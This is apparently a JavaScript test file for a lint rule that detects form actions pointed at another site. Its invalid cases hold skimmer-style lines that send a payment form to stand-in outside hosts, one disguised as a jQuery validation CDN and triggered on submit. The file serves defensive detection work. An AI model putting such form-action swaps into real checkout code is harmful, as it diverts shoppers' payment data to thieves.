import rule from './form-action-offsite.js';
import { ruleTable } from '../test/helpers/rule-table.js';

ruleTable(rule, {
  valid: [
    "document.forms[0].action = '/checkout/submit';",
    "form.action = form.action + '?step=2';",
    { name: "jQuery: a multi-step checkout pointing its form at the next step on its own site", code: "$('#co-payment-form').attr('action', '/checkout/onepage/saveOrder');" },
    { name: "jQuery's attr on something that is no jQuery collection (a plain object's attr method)", code: "var cfg = { attr: function (k, v) { this[k] = v; } }; cfg.attr('action', 'https://api.example/x');" },
  ],
  invalid: [
    { code: "document.getElementById('payment-form').action = 'https://pay-secure.example/p';", messageIds: ['action'], severity: 'high' },
    { code: "var f = document.forms[0]; f.setAttribute('action', 'https://pay-secure.example/p');", messageIds: ['action'] },
    { name: "jQuery: the payment form's action swapped to another host", code: "var $f = $('#co-payment-form'); $f.on('submit', function () { $f.attr('action', 'https://jquery-validate-cdn.example/v1/check'); });", messageIds: ['action'] },
  ],
});
